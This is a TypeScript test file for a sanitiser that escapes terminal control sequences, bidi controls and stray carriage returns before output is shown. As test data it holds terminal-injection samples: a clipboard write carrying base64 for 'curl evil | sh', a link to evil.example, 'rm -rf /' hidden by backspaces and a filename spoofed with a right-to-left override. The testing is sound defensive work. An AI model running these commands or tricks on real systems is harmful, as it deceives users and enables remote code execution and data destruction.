import { describe, expect, it } from 'vitest';
import { PrintableDecoder, printable, printableField, printableJson } from '../../src/printable.js';

const ESC = '\x1b';

/** Whether `text` has anything a terminal would act on, or a bidi control. */
function hasControls(text: string): boolean {
  return /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u.test(text);
}

describe('printable', () => {
  it('escapes CSI sequences: clear screen, cursor moves, colours', () => {
    expect(printable(`${ESC}[2J${ESC}[Hboot ok`)).toBe('\\x1b[2J\\x1b[Hboot ok');
    expect(printable(`${ESC}[1A${ESC}[2Kagent: ready`)).toBe('\\x1b[1A\\x1b[2Kagent: ready');
    expect(printable(`${ESC}[31mred${ESC}[0m`)).toBe('\\x1b[31mred\\x1b[0m');
  });

  it('escapes OSC sequences: window title (BEL or ST), clipboard write (OSC 52), hyperlink', () => {
    expect(printable(`${ESC}]0;pwned\x07`)).toBe('\\x1b]0;pwned\\x07');
    expect(printable(`${ESC}]2;title${ESC}\\`)).toBe('\\x1b]2;title\\x1b\\');
    expect(printable(`${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07`)).toBe('\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07');
    expect(printable(`${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`)).toBe(
      '\\x1b]8;;https://evil.example/\\x1b\\click\\x1b]8;;\\x1b\\',
    );
  });

  it('escapes DCS and the C1 controls (U+0080-U+009F), which terminals may take as CSI, OSC, DCS', () => {
    expect(printable(`${ESC}P+q544e${ESC}\\`)).toBe('\\x1bP+q544e\\x1b\\');
    expect(printable('\u009b2J')).toBe('\\u009b2J');
    expect(printable('\u009d0;title\u009c')).toBe('\\u009d0;title\\u009c');
    expect(printable('\u0090+q\u009c')).toBe('\\u0090+q\\u009c');
    expect(printable('\u0080\u0085\u009f')).toBe('\\u0080\\u0085\\u009f');
    for (let code = 0x80; code <= 0x9f; code++) expect(hasControls(printable(String.fromCharCode(code)))).toBe(false);
  });

  it('escapes bidi controls that make text read as something else', () => {
    // "vmpod-‮txt.exe" would show as "vmpod-exe.txt".
    expect(printable('vmpod-\u202etxt.exe')).toBe('vmpod-\\u202etxt.exe');
    for (const c of ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c']) {
      expect(printable(`a${c}b`)).toBe(`a\\u${c.codePointAt(0)!.toString(16).padStart(4, '0')}b`);
    }
  });

  it('escapes backspace, BEL, NUL, DEL and the other C0 controls', () => {
    // On a terminal this shows as "ls" followed by spaces: the backspaces overwrite "rm -rf /".
    expect(printable(`rm -rf /${'\b'.repeat(8)}ls      `)).toBe(`rm -rf /${'\\x08'.repeat(8)}ls      `);
    expect(printable('a\x00b\x07c\x7fd')).toBe('a\\x00b\\x07c\\x7fd');
    expect(printable('\x0b\x0c\x0e\x1f')).toBe('\\x0b\\x0c\\x0e\\x1f');
    const all = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('') + '\x7f';
    expect(hasControls(printable(all).replace(/[\n\t]/gu, ''))).toBe(false);
  });

  it('turns CR LF into LF and shows a lone CR (which would overwrite the line) as \\r', () => {
    expect(printable('[    0.000000] Linux version 6.1\r\n[    0.1] ok\r\n')).toBe('[    0.000000] Linux version 6.1\n[    0.1] ok\n');
    expect(printable('password: secret\rpassword: ******')).toBe('password: secret\\rpassword: ******');
    expect(printable('a\r\r\nb')).toBe('a\\r\nb');
    expect(printable('end\r')).toBe('end\\r');
  });

  it('keeps newlines, tabs, printable ASCII and non-ASCII text (é, 中文, emoji) as they are', () => {
    const text = 'café naïve — 中文 日本語 한국어 Ελληνικά עברית العربية\n\tline 2 😀 👨‍👩‍👧 🇫🇷 \\x1b ~!@#$%^&*()\n';
    expect(printable(text)).toBe(text);
    expect(printable('')).toBe('');
  });

  it('keeps U+FFFD (invalid UTF-8 decoded) and escapes lone surrogates', () => {
    const decoded = Buffer.from([0x61, 0xff, 0xfe, 0x62]).toString('utf8');
    expect(printable(decoded)).toBe('a\ufffd\ufffdb');
    expect(printable('a\ud800b\udc00c')).toBe('a\\ud800b\\udc00c');
  });

  it('handles very long lines in linear time, escaping all of them', () => {
    const line = `${'x'.repeat(1000)}${ESC}[2J`.repeat(2000); // 2 MB, one line
    const started = performance.now();
    const out = printable(line);
    expect(performance.now() - started).toBeLessThan(2000);
    expect(out.length).toBe(line.length + 3 * 2000);
    expect(out.includes(ESC)).toBe(false);
    expect(printable('a'.repeat(1 << 20))).toBe('a'.repeat(1 << 20));
  });
});

describe('printableField', () => {
  it('escapes newlines and tabs too, so a field stays on its line', () => {
    expect(printableField('web\n  fake   running')).toBe('web\\n  fake   running');
    expect(printableField('a\tb\r\nc')).toBe('a\\tb\\r\\nc');
    expect(printableField(`${ESC}[2Jid\u202e`)).toBe('\\x1b[2Jid\\u202e');
    expect(printableField('web-1 中文 😀')).toBe('web-1 中文 😀');
  });
});

describe('printableJson', () => {
  it('escapes DEL, C1 and bidi controls (JSON.stringify leaves them), parsing back to the same value', () => {
    const value = { id: `a${ESC}[2J\u009b\u202e\x7f\ud800`, text: '中文 😀 é', n: 1 };
    const json = printableJson(value, 2);
    expect(hasControls(json.replace(/\n/gu, ''))).toBe(false);
    expect(json).toContain('\\u009b\\u202e\\u007f');
    expect(JSON.parse(json)).toEqual(value);
    expect(printableJson(undefined)).toBe('null');
  });
});

describe('PrintableDecoder', () => {
  it('joins UTF-8 sequences and CR LF pairs split across chunks', () => {
    const bytes = Buffer.from(`boot\r\n中文 😀\r\n${ESC}[2Jx\rdone\r`);
    const whole = printable(`boot\r\n中文 😀\r\n${ESC}[2Jx\rdone\r`);
    // Every split point, so that each multi-byte character and each CR LF gets cut.
    for (let cut = 0; cut <= bytes.length; cut++) {
      const decoder = new PrintableDecoder();
      const out = decoder.write(bytes.subarray(0, cut)) + decoder.write(bytes.subarray(cut)) + decoder.end();
      expect(out).toBe(whole);
    }
  });

  it('decodes invalid UTF-8 to U+FFFD, and a truncated sequence at the end too', () => {
    const decoder = new PrintableDecoder();
    expect(decoder.write(Buffer.from([0x61, 0xff, 0x62, 0xe4, 0xb8]))).toBe('a\ufffdb');
    expect(decoder.end()).toBe('\ufffd');
  });
});
